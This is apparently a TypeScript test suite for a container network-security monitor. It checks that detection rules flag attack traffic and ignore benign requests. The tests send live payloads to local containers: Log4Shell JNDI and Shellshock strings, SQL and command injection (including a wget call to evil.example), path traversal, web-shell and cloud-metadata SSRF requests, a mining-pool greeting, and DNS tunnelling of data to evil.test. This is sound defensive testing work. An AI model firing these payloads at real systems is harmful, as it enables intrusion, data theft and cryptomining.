// Rules on what is said in the network: real attacks over real connections of real containers, and honest traffic beside them.

import assert from "node:assert/strict";
import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { test } from "node:test";
import type { Alert } from "../../../src/model/watch.ts";
import { eventually } from "../../support/eventually.ts";
import { request } from "../../support/http.ts";
import { textAt } from "../../support/json.ts";
import { protect } from "../../support/watched.ts";
import { watchedNetwork } from "../../support/watched-network.ts";

const network = watchedNetwork({ withAllRules: true });
const { skip, zone, alerts } = network;
const detect = protect({ network: "detect", mining: "detect" });

const told = (rule: string, from = 0): readonly Alert[] => alerts.slice(from).filter((alert) => alert.rule === rule);

async function addressOf(id: string): Promise<string> {
  const found = await request(network.engine().socket, "GET", `/containers/${id}/json`);
  return textAt(found.json, "NetworkSettings", "IPAddress");
}

function curl(...words: readonly string[]): void {
  execFileSync("curl", ["-s", "--max-time", "5", "--path-as-is", "-o", "/dev/null", ...words]);
}

test("attacks in requests that a container gets are told, with the server that gets them", { skip }, async (t) => {
  const id = await network.start("exec busybox httpd -f -p 8080", detect, { name: "shop" });
  t.after(() => network.remove(id));
  const base = `http://${await addressOf(id)}:8080`;
  await eventually(async () => spawnedOk("curl", "-s", "-o", "/dev/null", base), Boolean);
  const from = alerts.length;
  curl("-H", "X-Api: \x24{jndi:ldap://evil.example/a}", `${base}/`);
  curl(`${base}/item?id=1%27%20OR%20%271%27=%271`);
  curl("-A", "() { :;}; /bin/bash -c id", `${base}/cgi-bin/status`);
  curl(`${base}/ping?host=1.1.1.1;wget%20http://evil.example/x`);
  curl(`${base}/../../../../etc/passwd`);
  curl(`${base}/upload/c99.php?cmd=id`);
  curl(`${base}/fetch?url=http://169.254.169.254/latest/meta-data/`);
  const expected = [
    ...["jndi-in-request", "sql-injection-in-request", "shell-injection-in-request", "path-traversal-in-request"],
    ...["web-shell-in-request", "credentials-request-relayed"],
  ];
  await eventually(
    async () => expected.filter((rule) => told(rule, from).length === 0),
    (missing) => missing.length === 0,
  );
  const [jndi] = told("jndi-in-request", from);
  assert.deepEqual(
    [jndi?.container?.name, jndi?.ancestors[0]?.argv, jndi?.event.port, jndi?.outcome, jndi?.responses],
    ["shop", ["busybox", "httpd", "-f", "-p", "8080"], 8080, "detected", []],
  );
  assert.equal(told("shell-injection-in-request", from).length, 2);
});

test("the hundredth request of one connection is looked into like the first", { skip }, async () => {
  const from = alerts.length;
  const ask = `printf "GET /$i?${"x".repeat(200)} HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n"; busybox usleep 20000`;
  const last = `printf "GET /?x=%%24%%7Bjndi:rmi://evil%%7D HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n"; sleep 1`;
  const script = `(i=0; while [ $i -lt 100 ]; do ${ask}; i=$((i+1)); done; ${last}) | busybox nc 203.0.113.7 80 | grep -c 203.0.113.7/`;
  const answered = await network.run(script, detect);
  assert.deepEqual([answered, told("jndi-in-request", from).length], ["101\n", 1]);
});

test("a program that greets a mining pool is told, and ends where mining is blocked", { skip }, async () => {
  const greeting = `{"id":1,"method":"mining.subscribe","params":["app/1.0"]}`;
  const script = `(echo '${greeting}'; sleep 3; echo '${greeting}') | busybox nc 203.0.113.7 3333; echo ended with $?`;
  const from = alerts.length;
  const free = await network.run(script, detect);
  const [seen] = told("stratum-conversation", from);
  const stopped = await network.run(script, protect({ network: "detect", mining: "block" }));
  const [, killed] = told("stratum-conversation", from);
  assert.match(free, /^\{\}/);
  assert.deepEqual(
    [seen?.outcome, seen?.ancestors[0]?.argv, seen?.event.address],
    ["detected", ["busybox", "nc", "203.0.113.7", "3333"], "203.0.113.7"],
  );
  assert.deepEqual([killed?.outcome, /ended with 137/.test(stopped)], ["killed", true], stopped);
});

test("names that carry data are told", { skip }, async () => {
  const from = alerts.length;
  const script = `i=0; while [ $i -lt 130 ]; do name=$(echo "$i secret" | sha256sum | cut -c1-40); busybox nslookup $name.t.evil.test >/dev/null 2>&1; i=$((i+1)); done`;
  await network.run(script, detect);
  const [tunnel] = told("dns-tunnel", from);
  assert.match(
    tunnel?.message ?? "",
    /^(?:busybox|nslookup) asks for [0-9a-f]{40}\.t\.evil\.test \(1\d\d names of this domain within a minute\)$/,
  );
});

test("the metadata service is asked by a name: told with host and path", { skip }, async () => {
  zone.set("metadata.google.internal", ["203.0.113.8"]);
  const from = alerts.length;
  const said = await network.run(
    "sleep 1; busybox wget -qO- http://metadata.google.internal/computeMetadata/v1/",
    detect,
  );
  assert.equal(said, "203.0.113.8/computeMetadata/v1/\n");
  const [found] = told("metadata-request", from);
  assert.deepEqual(
    [found?.message, found?.event.details["name"], found?.event.details["nameFrom"]],
    ["busybox asks metadata.google.internal for /computeMetadata/v1/", "metadata.google.internal", "resolver"],
  );
});

test("a name from elsewhere than the resolver is marked so", { skip }, async () => {
  zone.set("plain.test", ["203.0.113.7"]);
  const from = alerts.length;
  // The far host answers nobody, so the question alone is told.
  await network.run("busybox timeout 2 busybox nslookup plain.test 203.0.113.9; true", detect);
  const [found] = await eventually(
    () => told("own-name-server", from),
    ({ length }) => length > 0,
  );
  assert.match(found?.message ?? "", /asks 203\.0\.113\.9 for plain\.test$/);
});

test("honest traffic is told of by no rule on conversations", { skip }, async (t) => {
  const id = await network.start("exec busybox httpd -f -p 8080", detect, { name: "honest" });
  t.after(() => network.remove(id));
  const base = `http://${await addressOf(id)}:8080`;
  await eventually(async () => spawnedOk("curl", "-s", "-o", "/dev/null", base), Boolean);
  const from = alerts.length;
  for (const path of [
    "/",
    "/search?q=select+a+union",
    "/o'reilly?or=1",
    "/a/../b",
    "/login;jsessionid=1",
    "/?price=$5",
  ]) {
    curl(base + path);
  }
  curl("-d", "text=drop+by+and+select+a+table", `${base}/comment`);
  zone.set("a.cdn.test", ["203.0.113.7"]);
  const script = `i=0; while [ $i -lt 150 ]; do busybox nslookup node-$i.shop.cdn.test >/dev/null 2>&1; i=$((i+1)); done; busybox wget -qO- http://a.cdn.test/x`;
  await network.run(script, detect);
  const ofConversations = alerts.slice(from).filter(({ event }) => event.kind.startsWith("flow"));
  assert.deepEqual(
    ofConversations.map(({ rule, message }) => `${rule}: ${message}`),
    [],
  );
});

async function spawnedOk(program: string, ...words: readonly string[]): Promise<boolean> {
  const [status] = await once(spawn(program, words, { stdio: "ignore" }), "exit");
  return status === 0;
}
